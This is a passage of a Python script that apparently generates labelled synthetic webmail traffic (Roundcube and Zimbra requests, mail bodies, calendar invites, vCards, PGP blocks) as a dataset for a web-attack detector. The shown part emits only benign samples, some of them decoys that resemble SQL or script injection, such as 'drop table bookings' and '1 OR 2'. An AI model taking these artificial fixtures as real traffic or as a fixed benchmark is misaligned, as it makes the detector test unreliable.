        'style="color:#888888;">Unsubscribe</a> | <a href="https://www.example-esp.com/prefs?u=%s" style="color:#888888;">'
        'Update preferences</a><br>Example Ltd, 1 Market Street, Dublin D02 XY45</td></tr></table></center>'
        '<img src="%s" width="1" height="1" alt="" style="display:block;border:0;height:1px;width:1px;"></body></html>'
        % (brand, hexs(6), brand, rows, hexs(16), hexs(16), hexs(16), hexs(8), hexs(16), track))


def digest_text():
    items = []
    for i in range(1, 5):
        n, m = person()
        items.append("Message: %d\nDate: Mon, 2 Dec 2024 1%d:0%d:11 +0100\nFrom: %s <%s>\nTo: ops-list@lists.example.org\n"
                     "Subject: Re: %s\nMessage-ID: <%s@%s>\nContent-Type: text/plain; charset=\"utf-8\"\n\n%s\n"
                     % (i, i, i, n, m, pick(SUBJECTS), hexs(12), pick(DOMAINS), quoted_reply("en")))
    return ("Send ops-list mailing list submissions to\n\tops-list@lists.example.org\n\nTo subscribe or unsubscribe via "
            "the World Wide Web, visit\n\thttps://lists.example.org/mailman/listinfo/ops-list\nor, via email, send a "
            "message with subject or body 'help' to\n\tops-list-request@lists.example.org\n\nToday's Topics:\n\n"
            "   1. Re: maintenance window (Bob Brown)\n   2. Re: select your seats (Alice Anderson)\n\n"
            "----------------------------------------------------------------------\n\n"
            + "\n------------------------------\n\n".join(items)
            + "\n------------------------------\n\nEnd of ops-list Digest, Vol 112, Issue 4\n*****************************************\n")


def pgp_message():
    return ("-----BEGIN PGP MESSAGE-----\n\n%s\n=%s\n-----END PGP MESSAGE-----\n"
            % (b64blob(420), alnum(4)))


def pgp_pubkey(uid):
    return ("-----BEGIN PGP PUBLIC KEY BLOCK-----\nComment: User-ID:\t%s\n\n%s\n=%s\n"
            "-----END PGP PUBLIC KEY BLOCK-----\n" % (uid, b64blob(600), alnum(4)))


def pgp_signed(text):
    return ("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n%s\n-----BEGIN PGP SIGNATURE-----\n\n%s\n=%s\n"
            "-----END PGP SIGNATURE-----\n" % (text, b64blob(180), alnum(4)))


def vcard(name=None, mail=None):
    name, mail = (name, mail) if name else person()
    fn, ln = name.split(" ", 1)
    return ("BEGIN:VCARD\r\nVERSION:3.0\r\nPRODID:-//Sabre//Sabre VObject 4.5.4//EN\r\nUID:%s-%s-%s\r\n"
            "FN:%s\r\nN:%s;%s;;;\r\nEMAIL;TYPE=INTERNET,WORK:%s\r\nTEL;TYPE=CELL:+44 7700 900%03d\r\n"
            "ORG:Example Ltd;Sales\r\nTITLE:Account Director\r\nADR;TYPE=WORK:;;1 Market Street;Dublin;;D02 XY45;Ireland\r\n"
            "URL:https://www.example.com/team/%s\r\nNOTE:Met at the Berlin trade fair\\, prefers calls after 2pm.\r\n"
            "REV:2024-11-30T10:22:41Z\r\nEND:VCARD\r\n"
            % (hexs(8), hexs(4), hexs(12), name, ln, fn, mail, R.randrange(1000), fn.lower()))


def ics_invite(kind=None):
    kind = kind or pick(["teams", "zoom", "meet", "room", "webex"])
    org_n, org_m = person()
    att = [person() for _ in range(R.randint(1, 3))]
    start = "202412%02dT%02d0000" % (R.randint(2, 20), R.randint(8, 16))
    loc = {
        "teams": "Microsoft Teams Meeting",
        "zoom": "https://us02web.zoom.us/j/8%09d?pwd=%s" % (R.randrange(10**9), alnum(32)),
        "meet": "https://meet.google.com/%s-%s-%s" % (alnum(3).lower(), alnum(4).lower(), alnum(3).lower()),
        "room": "Room 2.14 (Building B)",
        "webex": "https://example.webex.com/example/j.php?MTID=m%s" % hexs(32),
    }[kind]
    desc = {
        "teams": "________________________________________________________________________________\\n"
                 "Microsoft Teams meeting\\nJoin on your computer\\, mobile app or room device\\n"
                 "Click here to join the meeting<https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0"
                 "?context=%%7b%%22Tid%%22%%3a%%22%s%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d>\\nMeeting ID: 372 %03d 118 42\\n"
                 "Passcode: %s\\nLearn More<https://aka.ms/JoinTeamsMeeting> | Meeting options\\n"
                 "________________________________________________________________________________"
                 % (alnum(40), hexs(32), hexs(32), R.randrange(1000), alnum(6)),
        "zoom": "%s is inviting you to a scheduled Zoom meeting.\\n\\nJoin Zoom Meeting\\n%s\\n\\nMeeting ID: 8%s\\n"
                "One tap mobile\\n+13462487799\\,\\,%s# US (Houston)" % (org_n, loc, R.randrange(10**9), R.randrange(10**9)),
        "meet": "Join with Google Meet: %s\\nJoin by phone: +1 260-555-0133 PIN: 448 912 003#" % loc,
        "room": "Agenda:\\n1. Select vendors for the 2025 tender\\n2. Drop the legacy print service?\\n3. AOB",
        "webex": "Join the Webex meeting: %s\\nMeeting number (access code): 2641 %03d 8871" % (loc, R.randrange(1000)),
    }[kind]
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0",
             "METHOD:REQUEST", "BEGIN:VTIMEZONE", "TZID:W. Europe Standard Time", "BEGIN:STANDARD",
             "DTSTART:16010101T030000", "TZOFFSETFROM:+0200", "TZOFFSETTO:+0100",
             "RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=10", "END:STANDARD", "END:VTIMEZONE", "BEGIN:VEVENT",
             "ORGANIZER;CN=%s:mailto:%s" % (org_n, org_m)]
    for n, m in att:
        lines.append("ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s:mailto:%s" % (n, m))
    lines += ["DESCRIPTION;LANGUAGE=en-US:%s" % desc, "UID:040000008200E00074C5B7101A82E008000000%s" % hexs(40).upper(),
              "SUMMARY;LANGUAGE=en-US:%s" % pick(["Sprint review", "Weekly sync", "Budget 2025 – select vendors",
                                                  "1:1 Alice / Bob", "Drop-in Q&A", "Quarterly business review"]),
              "DTSTART;TZID=W. Europe Standard Time:%s" % start,
              "DTEND;TZID=W. Europe Standard Time:%s" % (start[:9] + "%02d3000" % (int(start[9:11]) + 1)),
              "LOCATION;LANGUAGE=en-US:%s" % loc, "SEQUENCE:0", "STATUS:CONFIRMED", "TRANSP:OPAQUE"]
    if R.random() < 0.4:
        lines.append("ATTACH;FMTTYPE=application/pdf:https://files.example.com/s/%s/agenda.pdf" % alnum(15))
    if R.random() < 0.4:
        lines.append("URL:https://intranet.example.com/events/%d" % R.randrange(10**5))
    lines += ["BEGIN:VALARM", "TRIGGER:-PT15M", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "END:VALARM",
              "END:VEVENT", "END:VCALENDAR"]
    return "\r\n".join(lines) + "\r\n"


def eml(subject, text, html=None, frm=None, to=None, extra_headers=(), attach=None):
    frm = frm or addr()
    to = to or addr()
    bnd = "=_%s" % hexs(32)
    hdr = ("Return-Path: <%s>\r\nReceived: from mail-ed1-f48.google.com (mail-ed1-f48.google.com [209.85.208.48])\r\n"
           "\tby mx1.example.com (Postfix) with ESMTPS id 4Y2k7Q3Fz9z1xQ\r\n\tfor <%s>; Tue, 3 Dec 2024 10:12:44 +0100 (CET)\r\n"
           "Authentication-Results: mx1.example.com; dkim=pass header.d=example.com; spf=pass smtp.mailfrom=example.com; "
           "dmarc=pass (p=REJECT) header.from=example.com\r\nFrom: %s\r\nTo: %s\r\nSubject: %s\r\n"
           "Date: Tue, 3 Dec 2024 10:12:31 +0100\r\nMessage-ID: <%s@example.com>\r\nMIME-Version: 1.0\r\n"
           % (frm.split("<")[-1].rstrip(">"), to.split("<")[-1].rstrip(">"), frm, to, subject, hexs(20)))
    for k, v in extra_headers:
        hdr += "%s: %s\r\n" % (k, v)
    hdr += 'Content-Type: multipart/alternative; boundary="%s"\r\n\r\n' % bnd
    body = "--%s\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n" % (
        bnd, qp_encode(text))
    if html:
        body += "--%s\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n" % (
            bnd, qp_encode(html))
    if attach:
        body += attach.replace("{BND}", bnd)
    body += "--%s--\r\n" % bnd
    return hdr + body


# --------------------------------------------------------------------------
# benign: Roundcube
# --------------------------------------------------------------------------

FOLDERS = ["INBOX", "Sent", "Drafts", "Trash", "Junk", "Archive", "INBOX/Projects", "INBOX/Invoices 2024",
           "Archive/2023", "Kunden/Müller & Söhne", "Lists/ops-list", "Notes", "Entwürfe", "Отправленные"]


def rc_send_pairs(host, subject, message, is_html, to=None, cc="", bcc=""):
    return [("_token", alnum(32)), ("_task", "mail"), ("_action", "send"), ("_id", hexs(26)),
            ("_attachments", ""), ("_from", str(R.randint(1, 4))), ("_to", to or addr()),
            ("_cc", cc), ("_bcc", bcc), ("_replyto", ""), ("_followupto", ""),
            ("_subject", subject), ("editorSelector", "html" if is_html else "plain"),
            ("_priority", "0"), ("_store_target", "Sent"), ("_draft_saveid", str(R.randrange(100, 9999)) if R.random() < 0.3 else ""),
            ("_draft", ""), ("_is_html", "1" if is_html else "0"), ("_framed", "1"),
            ("_mdn", "1") if R.random() < 0.2 else ("_dsn", ""), ("_message", message)]


def benign_roundcube():
    # sending mail: plain, html, replies, forwards, many languages
    for i in range(34):
        host = pick(RC_HOSTS)
        kind = i % 6
        if kind == 0:
            subj, msg, h = pick(SUBJECTS), plain_body(), False
        elif kind == 1:
            subj, msg, h = pick(SUBJECTS), html_body(), True
        elif kind == 2:
            subj, msg, h = "Re: " + pick(SUBJECTS), quoted_reply(), False
        elif kind == 3:
            subj, msg, h = "Re: " + pick(SUBJECTS), html_body(quote_html=True), True
        elif kind == 4:
            subj, msg, h = "Fwd: " + pick(SUBJECTS), forwarded(pick(LANG_KEYS)), False
        else:
            lang = pick(["ja", "zh", "ru", "ar", "ko", "he", "el", "hi"])
            subj, msg, h = pick(SUBJECTS[-14:]), plain_body(lang), R.random() < 0.5
            if h:
                msg = html_body(msg)
        cc = addr() if R.random() < 0.3 else ""
        body = form(rc_send_pairs(host, subj, msg, h, cc=cc))
        emit("benign", "roundcube_send", "POST", "/?_task=mail&_unlock=loading%s&_framed=1&_lang=%s" % (
            ts_ms(), pick(["en_US", "de_DE", "fr_FR", "es_ES", "ja_JP"])),
            rc_headers(host, "application/x-www-form-urlencoded", xhr=False), body)

    # draft autosave
    for i in range(8):
        host = pick(RC_HOSTS)
        pairs = rc_send_pairs(host, pick(SUBJECTS), html_body(with_sig=False) if i % 2 else plain_body(), i % 2 == 1)
        pairs = [(k, "savedraft" if k == "_action" else v) for k, v in pairs]
        emit("benign", "roundcube_draft", "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))

    # message list, show, preview, attachments
    for i in range(22):
        host = pick(RC_HOSTS)
        mbox = pick(FOLDERS)
        k = i % 6
        if k == 0:
            uri = "/?" + qs([("_task", "mail"), ("_action", "list"), ("_refresh", "1"), ("_layout", "widescreen"),
                             ("_mbox", mbox), ("_page", str(R.randint(1, 9))), ("_remote", "1"),
                             ("_unlock", "loading" + ts_ms()), ("_", ts_ms())])
        elif k == 1:
            uri = "/?_task=mail&_uid=%d&_mbox=%s&_action=show" % (R.randrange(1, 90000), quote(mbox, safe=""))
        elif k == 2:
            uri = "/?_task=mail&_caps=pdf%%3D1%%2Cflash%%3D0%%2Ctiff%%3D0%%2Cwebp%%3D1%%2Cpgpmime%%3D0&_uid=%d&_mbox=%s&_framed=1&_action=preview" % (
                R.randrange(1, 90000), quote(mbox, safe=""))
        elif k == 3:
            uri = "/?_task=mail&_action=get&_mbox=%s&_uid=%d&_token=%s&_part=%d&_download=1" % (
                quote(mbox, safe=""), R.randrange(1, 90000), alnum(32), R.randint(2, 4))
        elif k == 4:
            uri = "/?_task=mail&_action=get&_mbox=INBOX&_uid=%d&_part=1.%d&_embed=1&_mimeclass=image&_frame=1" % (
                R.randrange(1, 90000), R.randint(2, 3))
        else:
            uri = "/?_task=mail&_action=show&_uid=%d&_mbox=INBOX&_safe=1&_extwin=1" % R.randrange(1, 90000)
        emit("benign", "roundcube_read", "GET", uri,
             rc_headers(host, xhr=(k in (0,))))

    # search, sort, mark, move
    searches = ["invoice", "from:bob", "Re: select your seats", "Müller", "drop table bookings",
                "order confirmation", "\"quarterly report\"", "union meeting", "見積書", "счёт",
                "script", "password reset", "1 OR 2", "<no subject>", "O'Brien"]
    for i, q in enumerate(searches):
        host = pick(RC_HOSTS)
        uri = "/?" + qs([("_task", "mail"), ("_action", "search"), ("_interval", pick(["", "1W", "1M", "1Y"])),
                         ("_q", q), ("_headers", pick(["subject,from", "text", "subject", "from,to,cc"])),
                         ("_layout", "widescreen"), ("_filter", pick(["ALL", "UNSEEN", "FLAGGED", "UNANSWERED"])),
                         ("_scope", pick(["base", "sub", "all"])), ("_mbox", pick(FOLDERS)), ("_remote", "1"),
                         ("_unlock", "loading" + ts_ms()), ("_", ts_ms())])
        emit("benign", "roundcube_search", "GET", uri, rc_headers(host))
    for i in range(8):
        host = pick(RC_HOSTS)
        act = pick([("mark", [("_flag", pick(["read", "unread", "flagged"]))]),
                    ("move", [("_target_mbox", pick(FOLDERS))]),
                    ("delete", []), ("expunge", [])])
        pairs = [("_uid", ",".join(str(R.randrange(1, 90000)) for _ in range(R.randint(1, 4)))),
                 ("_mbox", pick(FOLDERS))] + act[1] + [("_remote", "1")]
        emit("benign", "roundcube_action", "POST", "/?_task=mail&_action=%s" % act[0],
             rc_headers(host, "application/x-www-form-urlencoded; charset=UTF-8"), form(pairs))

    # compose uploads (multipart, some binary)
    files = [
        ("Angebot_2024-1187.pdf", "application/pdf",
         b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + bytes(R.randrange(256) for _ in range(300))),
        ("team-photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00" + bytes(R.randrange(256) for _ in range(400))),
        ("minutes.txt", "text/plain", "Minutes 2024-12-03\n- select venue for offsite\n- drop the legacy printer contract\n- union rep to join next meeting\n".encode()),
        ("budget.csv", "text/csv", "item;q1;q2;q3;q4\nlicences;1200;1200;1300;1300\ntravel;800;450;900;300\n".encode()),
        ("screenshot.png", "image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(R.randrange(256) for _ in range(350))),
        ("Präsentation Q4.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation",
         b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(R.randrange(256) for _ in range(300))),
        ("invite.ics", "text/calendar", ics_invite().encode()),
        ("contact.vcf", "text/vcard", vcard().encode()),
        ("notes (final) v2.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(R.randrange(256) for _ in range(280))),
        ("report.eml", "message/rfc822", eml(pick(SUBJECTS), plain_body()).encode()),
    ]
    for fname, ctype, content in files:
        host = pick(RC_HOSTS)
        ct, body = multipart([("_file[]", fname, ctype, content)])
        uri = "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_unlock=loading%s&_action=upload" % (
            hexs(26), ts_ms(), ts_ms())
        emit("benign", "roundcube_upload", "POST", uri, rc_headers(host, ct), body)

    # settings: identities with HTML signatures, folders, prefs, responses
    for i in range(10):
        host = pick(RC_HOSTS)
        n, m = person()
        sig = signature_html()
        if i % 3 == 0:
            sig += '<img src="data:image/png;base64,%s" alt="logo" width="120">' % base64.b64encode(
                b"\x89PNG\r\n\x1a\n" + bytes(R.randrange(256) for _ in range(90))).decode()
        pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-identity"), ("_iid", str(R.randint(1, 6))),
                 ("_name", n), ("_email", m), ("_organization", pick(["Example GmbH", "Contoso Ltd.", "Müller & Söhne KG", ""])),
                 ("_reply-to", ""), ("_bcc", ""), ("_signature", sig), ("_html_signature", "1"), ("_framed", "1")]
        emit("benign", "roundcube_identity", "POST", "/?_task=settings&_action=save-identity",
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
    for i in range(6):
        host = pick(RC_HOSTS)
        name = pick(["Projects 2025", "Kunden/Schmidt & Partner", "Receipts", "Newsletters (read later)",
                     "請求書", "Reise – Lissabon", "Union rep", "Select vendors"])
        pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-folder"), ("_mbox", ""),
                 ("_name", name), ("_parent", pick(["", "INBOX", "Archive"])), ("_viewmode", "0"), ("_framed", "1")]
        emit("benign", "roundcube_folder", "POST", "/?_task=settings&_action=save-folder",
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
    for i in range(5):
        host = pick(RC_HOSTS)
        pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-response"), ("_id", ""),
                 ("_name", pick(["Thanks, will review", "Out next week", "Send invoice", "Meeting decline"])),
                 ("_text", plain_body("en")), ("_format", "text"), ("_framed", "1")]
        emit("benign", "roundcube_response", "POST", "/?_task=settings&_action=save-response",
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
    for i in range(4):
        host = pick(RC_HOSTS)
        pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-prefs"), ("_section", "general"),
                 ("_language", pick(["de_DE", "en_GB", "fr_FR"])), ("_timezone", pick(["Europe/Berlin", "America/New_York", "auto"])),
                 ("_time_format", "H:i"), ("_date_format", "Y-m-d"), ("_pretty_date", "1"), ("_refresh_interval", "60"),
                 ("_skin", pick(["elastic", "larry"])), ("_framed", "1")]
        emit("benign", "roundcube_prefs", "POST", "/?_task=settings&_action=save-prefs",
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))

    # address book: search, autocomplete, import vCard / CSV
    for q in ["müller", "bob", "sales@", "O'Brien", "Dana S", "+49 89", "田中", "union", "select"]:
        host = pick(RC_HOSTS)
        if R.random() < 0.5:
            uri = "/?" + qs([("_task", "mail"), ("_action", "autocomplete"), ("_search", q), ("_reqid", ts_ms()),
                             ("_source", ""), ("_remote", "1"), ("_unlock", "loading" + ts_ms())])
            emit("benign", "roundcube_contacts", "GET", uri, rc_headers(host))
        else:
            pairs = [("_q", q), ("_headers", "*"), ("_search", ""), ("_remote", "1"), ("_unlock", "loading" + ts_ms())]
            emit("benign", "roundcube_contacts", "POST", "/?_task=addressbook&_action=search",
                 rc_headers(host, "application/x-www-form-urlencoded; charset=UTF-8"), form(pairs))
    for i in range(6):
        host = pick(RC_HOSTS)
        if i % 2 == 0:
            content = "".join(vcard() for _ in range(R.randint(1, 3)))
            parts = [("_token", None, None, alnum(32)), ("_target", None, None, "0"), ("_replace", None, None, ""),
                     ("_file[]", "contacts.vcf", "text/vcard", content)]
        else:
            rows = ["First Name,Last Name,E-mail Address,Company,Business Phone,Notes"]
            for _ in range(R.randint(2, 5)):
                n, m = person()
                rows.append('%s,%s,%s,"Example, Inc.",+1 (555) 01%02d,"Select customer; met at ""Expo 2024"""' % (
                    n.split()[0], n.split()[1], m, R.randrange(100)))
            parts = [("_token", None, None, alnum(32)), ("_target", None, None, "0"), ("_replace", None, None, ""),
                     ("_file[]", "outlook-export.csv", "text/csv", "\r\n".join(rows) + "\r\n")]
        ct, body = multipart(parts)
        emit("benign", "roundcube_import", "POST", "/?_task=addressbook&_action=import&_framed=1",
             rc_headers(host, ct, xhr=False), body)

    # managesieve filters (UI form and raw script editor)
    for i in range(8):
        host = pick(RC_HOSTS)
        if i % 2 == 0:
            pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "plugin.managesieve-action"),
                     ("_framed", "1"), ("_fid", ""), ("_name", pick(["Newsletters", "Spam to Junk", "Boss", "Invoices"])),
                     ("_join", "any"), ("_header[]", "subject"), ("_rule_op[]", "contains"),
                     ("_rule_target[]", pick(["[SPAM]", "newsletter", "Invoice", "Rechnung", "select your seats"])),
                     ("_action_type[]", "fileinto"), ("_action_mailbox[]", pick(FOLDERS))]
            emit("benign", "roundcube_sieve", "POST", "/?_task=settings&_action=plugin.managesieve-action&_framed=1",
                 rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
        else:
            script = pick([
                'require ["fileinto"];\r\n# rule:[spam]\r\nif header :contains "subject" "[SPAM]"\r\n{\r\n\tfileinto "Junk";\r\n\tstop;\r\n}\r\n',
                'require ["fileinto","vacation","date","relational"];\r\n# rule:[holiday]\r\nif allof (currentdate :value "ge" "date" "2024-12-23", currentdate :value "le" "date" "2025-01-03")\r\n{\r\n\tvacation :days 1 :subject "Out of office" "I am away until 3 January. For urgent matters please contact support@example.com.";\r\n}\r\n',
                'require ["fileinto","envelope"];\r\nif envelope :domain :is "from" "lists.example.org" { fileinto "Lists/ops-list"; }\r\nelsif address :all :is "from" "boss@example.com" { fileinto "INBOX/Projects"; }\r\n',
                'require ["fileinto","imap4flags"];\r\nif anyof (header :contains "list-id" "<announce.example.org>", header :contains "x-mailer" "Mailchimp") {\r\n  addflag "\\\\Seen";\r\n  fileinto "Newsletters";\r\n}\r\n',
            ])
            pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "plugin.managesieve-saveraw"),
                     ("_framed", "1"), ("_set", "roundcube"), ("rawsetcontent", script)]
            emit("benign", "roundcube_sieve", "POST", "/?_task=settings&_action=plugin.managesieve-saveraw",
                 rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))

    # enigma: PGP key import, PGP-encrypted / signed send
    for i in range(4):
        host = pick(RC_HOSTS)
        n, m = person()
        ct, body = multipart([("_token", None, None, alnum(32)), ("_file", "%s.asc" % m.split("@")[0], "application/pgp-keys",
                                                                   pgp_pubkey("%s <%s>" % (n, m)))])
        emit("benign", "roundcube_pgp", "POST", "/?_task=settings&_action=plugin.enigmakeys&_a=import&_framed=1",
             rc_headers(host, ct, xhr=False), body)
    for i in range(3):
        host = pick(RC_HOSTS)
        msg = pgp_message() if i != 1 else pgp_signed(plain_body("en"))
        emit("benign", "roundcube_pgp", "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False),
             form(rc_send_pairs(host, pick(SUBJECTS), msg, False) + [("_enigma_encrypt", "1"), ("_enigma_sign", "1")]))


# --------------------------------------------------------------------------
# Zimbra
# --------------------------------------------------------------------------

ZM_UA = "ZimbraWebClient - %s (%s)"


def zm_context(account):
    return {"_jsns": "urn:zimbra",
            "userAgent": {"name": ZM_UA % (pick(["FF133", "GC131", "SAF17"]), pick(["Win", "Mac", "Linux"])),
                          "version": pick(["10.0.9_GA_4680", "9.0.0_GA_4612", "10.1.2_GA_0213"])},
            "session": {"_content": R.randint(100, 9999), "id": R.randint(100, 9999)},
            "account": {"_content": account, "by": "name"},
            "csrfToken": "0_" + hexs(40)}


def zm_headers(host, extra=()):
    return base_headers(host, accept="*/*", cookie=zm_cookie(), ctype="application/soap+xml; charset=utf-8",
                        extra=[["Origin", "https://" + host], ["Referer", "https://%s/" % host],
                               ["X-Zimbra-Csrf-Token", "0_" + hexs(40)]] + list(extra))


def zm_soap(host, req_name, body, account=None, extra=()):
    account = account or person()[1]
    payload = {"Header": {"context": zm_context(account)}, "Body": {req_name: body}}
    emit_kind = body.pop("__cat__", "benign") if isinstance(body, dict) else "benign"
    sub = body.pop("__sub__", "zimbra_soap") if isinstance(body, dict) else "zimbra_soap"
    return emit(emit_kind, sub, "POST", "/service/soap/" + req_name, zm_headers(host, extra),
                json.dumps(payload, ensure_ascii=False, separators=(",", ":")))


ZM_QUERIES = ["in:inbox", "in:inbox from:bob is:unread", "in:sent to:alice after:11/01/2024",
              "has:attachment type:application/pdf", "subject:\"select your seats\"", "is:flagged -in:trash",
              "in:\"Projects/Apollo\" before:-1month", "from:(@example.com) larger:5MB",
              "tag:urgent OR is:flagged", "content:\"drop by my office\"", "in:junk", "invoice and not in:trash",
              "date:-7day is:unread", "in:inbox (from:müller OR from:schmidt)", "conv:-1234 in:inbox"]


def benign_zimbra():
    for q in ZM_QUERIES:
        host = pick(ZM_HOSTS)
        zm_soap(host, "SearchRequest", {
            "_jsns": "urn:zimbraMail", "sortBy": pick(["dateDesc", "dateAsc", "subjAsc"]),
            "header": [{"n": "List-ID"}, {"n": "X-Zimbra-DL"}, {"n": "IN-REPLY-TO"}],
            "tz": {"id": pick(["Europe/Berlin", "America/New_York", "Asia/Tokyo"])},
            "locale": {"_content": pick(["en_US", "de", "fr"])}, "offset": R.choice([0, 100]),
            "limit": 100, "query": q, "types": pick(["conversation", "message"]), "recip": "0",
            "fullConversation": 1, "needExp": 1})
    for i in range(12):
        host = pick(ZM_HOSTS)
        me_n, me_m = person()
        to_n, to_m = person()
        text = quoted_reply() if i % 3 == 0 else plain_body()
        mp = [{"ct": "text/plain", "content": {"_content": text}}]
        if i % 2:
            mp.append({"ct": "text/html", "content": {"_content": html_body(text) if i % 4 != 3 else newsletter_html()}})
        m = {"e": [{"t": "t", "a": to_m, "p": to_n}, {"t": "f", "a": me_m, "p": me_n}],
             "su": {"_content": pick(SUBJECTS)},
             "mp": [{"ct": "multipart/alternative", "mp": mp}] if i % 2 else mp}
        if i % 4 == 0:
            m["attach"] = {"aid": "%s-%s:%s" % (hexs(8), hexs(4), hexs(12))}
        zm_soap(host, "SendMsgRequest", {"_jsns": "urn:zimbraMail", "suid": ts_ms(), "m": m}, account=me_m)
    for i in range(5):
        host = pick(ZM_HOSTS)
        zm_soap(host, "GetMsgRequest", {"_jsns": "urn:zimbraMail", "m": {"id": str(R.randrange(200, 90000)),
                                                                          "html": 1, "read": 1, "needExp": 1, "max": 250000,
                                                                          "header": [{"n": "List-ID"}]}})
    for i in range(4):
        host = pick(ZM_HOSTS)
        sig = signature_html()
        zm_soap(host, "ModifySignatureRequest", {"_jsns": "urn:zimbraAccount", "signature": {
            "id": "%s-%s-%s" % (hexs(8), hexs(4), hexs(12)), "name": pick(["Work", "Short", "Deutsch"]),
            "content": [{"type": "text/html", "_content": sig}]}})
    for i in range(3):
        host = pick(ZM_HOSTS)
        zm_soap(host, "ModifyPrefsRequest", {"_jsns": "urn:zimbraAccount", "_attrs": {
            "zimbraPrefOutOfOfficeReplyEnabled": "TRUE",
            "zimbraPrefOutOfOfficeReply": pick(["I'm out of the office until 6 January with limited access to email. "
                                                "For urgent matters please contact helpdesk@example.com.",
                                                "Ich bin bis 03.01. nicht im Büro. In dringenden Fällen wenden Sie sich bitte an "
                                                "die Zentrale (+49 89 123456-0).",
                                                "Je suis absent jusqu'au 6 janvier. Merci de contacter mon collègue."]),
            "zimbraPrefOutOfOfficeFromDate": "20241220230000Z", "zimbraPrefOutOfOfficeUntilDate": "20250105230000Z"}})
    # XML SOAP from native clients / scripts
    for i in range(5):
        host = pick(ZM_HOSTS)
        n, m = person()
        if i % 2 == 0:
            body = ('<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><context xmlns="urn:zimbra">'
                    '<userAgent name="zmprov-client" version="10.0.9"/><nosession/></context></soap:Header><soap:Body>'
                    '<AuthRequest xmlns="urn:zimbraAccount"><account by="name">%s</account><password>%s</password>'
                    '<prefs><pref name="zimbraPrefMailPollingInterval"/></prefs></AuthRequest></soap:Body></soap:Envelope>'
                    % (m, pick(["Winter-2024!", "c0rrect&horse", "S0mmer#Sonne", "p@55w0rd.Example"]).replace("&", "&amp;")))
            uri = "/service/soap/AuthRequest"
        else:
            body = ('<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><context xmlns="urn:zimbra">'
                    '<authToken>0_%s_%s</authToken></context></soap:Header><soap:Body><SearchRequest xmlns="urn:zimbraMail" '
                    'types="message" limit="50" offset="0"><query>%s</query></SearchRequest></soap:Body></soap:Envelope>'
                    % (hexs(40), hexs(100), pick(ZM_QUERIES).replace('"', "&quot;")))
            uri = "/service/soap/"
        emit("benign", "zimbra_soap_xml", "POST", uri,
             base_headers(host, ua=pick(["Python-urllib/3.11", "Java/17.0.12", "zmsoap"]),
                          ctype="application/soap+xml; charset=utf-8"), body)
    # REST: attachments, calendars, address books, uploads
    for i in range(12):
        host = pick(ZM_HOSTS)
        k = i % 6
        if k == 0:
            uri = "/service/home/~/?auth=co&loc=%s&id=%d&part=%d&disp=a" % (pick(["en_US", "de", "fr"]), R.randrange(300, 90000), R.randint(2, 4))
        elif k == 1:
            uri = "/service/home/~/?auth=co&id=%d&part=2.%d&view=html" % (R.randrange(300, 90000), R.randint(1, 3))
        elif k == 2:
            uri = "/service/home/%s/Calendar?fmt=ics&start=0mi&end=%%2B4weeks" % quote(person()[1], safe="@")
        elif k == 3:
            uri = "/service/home/~/Contacts?fmt=csv&csvfmt=outlook-2003-csv"
        elif k == 4:
            uri = "/service/home/~/?auth=co&id=%d&fmt=zip&disp=a" % R.randrange(300, 90000)
        else:
            uri = "/service/preauth?account=%s&expires=0&timestamp=%s&preauth=%s" % (quote(person()[1], safe=""), ts_ms(), hexs(40))
        emit("benign", "zimbra_rest", "GET", uri, base_headers(host, accept=ACCEPT_HTML, cookie=zm_cookie()))
    for fname, ctype, content in [
        ("Q4-forecast.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK\x03\x04\x14\x00\x06\x00" + bytes(R.randrange(256) for _ in range(300))),
        ("scan_0012.pdf", "application/pdf", b"%PDF-1.4\n%\xc7\xec\x8f\xa2\n" + bytes(R.randrange(256) for _ in range(300))),
        ("agenda.txt", "text/plain", b"Agenda\n1. select the venue\n2. drop outdated slides\n3. union & works council update\n"),
    ]:
        host = pick(ZM_HOSTS)
